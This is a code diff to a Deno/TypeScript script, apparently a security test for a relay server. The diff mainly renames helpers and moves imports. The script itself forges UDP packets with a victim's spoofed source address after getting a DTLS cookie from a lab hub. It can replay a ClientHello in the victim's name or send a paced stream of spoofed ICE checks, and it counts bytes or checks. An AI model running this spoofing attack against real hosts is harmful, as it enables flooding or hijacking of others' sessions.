@@ -10,8 +10,10 @@
  * @module
  */
 
-import { clientHello, cookieIn, validCheck } from "../flood/packets.ts";
-import { Forger } from "../forger.ts";
+import { cookieIn, wholeClientHello } from "../support/client_hello.ts";
+import { Forger } from "../support/forger.ts";
+import { agentCheck } from "../support/ice_check.ts";
+import { pause } from "../support/waiting.ts";
 import type { TransportAddress } from "../../relaycore/net/transport_address.ts";
 
 const HUB = { address: "192.168.77.1", port: 4711 };
@@ -21,7 +23,7 @@ const CHECK_INTERVAL_MS = 50;
 const [ufrag, pwd, attack, address, victimText, seconds] = Deno.args;
 const [victimAddress, victimPort] = victimText.split(":");
 const victim: TransportAddress = { address: victimAddress, port: Number(victimPort) };
-const check = () => validCheck({ ufrag, pwd }, AGENT);
+const check = () => agentCheck({ ufrag, pwd }, AGENT);
 const random = crypto.getRandomValues(new Uint8Array(32));
 
 using forger = new Forger();
@@ -31,24 +33,24 @@ const send = (datagram: Uint8Array) =>
 
 await send(check());
 await socket.receive();
-await send(clientHello(random));
+await send(wholeClientHello(random));
 const cookie = cookieIn((await socket.receive())[0]);
 if (cookie === undefined) throw new Error("the hub has given no cookie");
 
 if (attack === "replace") {
   let bytes = 0;
-  for (const datagram of [check(), clientHello(random, cookie)]) {
+  for (const datagram of [check(), wholeClientHello(random, cookie)]) {
     forger.send(datagram, victim, HUB);
     bytes += datagram.length;
   }
   console.log(JSON.stringify({ bytes }));
 } else {
-  await send(clientHello(random, cookie));
+  await send(wholeClientHello(random, cookie));
   const deadline = performance.now() + Number(seconds) * 1000;
   let checks = 0;
   for (; performance.now() < deadline; checks++) {
     forger.send(check(), victim, HUB);
-    await new Promise((resolve) => setTimeout(resolve, CHECK_INTERVAL_MS));
+    await pause(CHECK_INTERVAL_MS); // the pace
   }
   console.log(JSON.stringify({ checks }));
 }
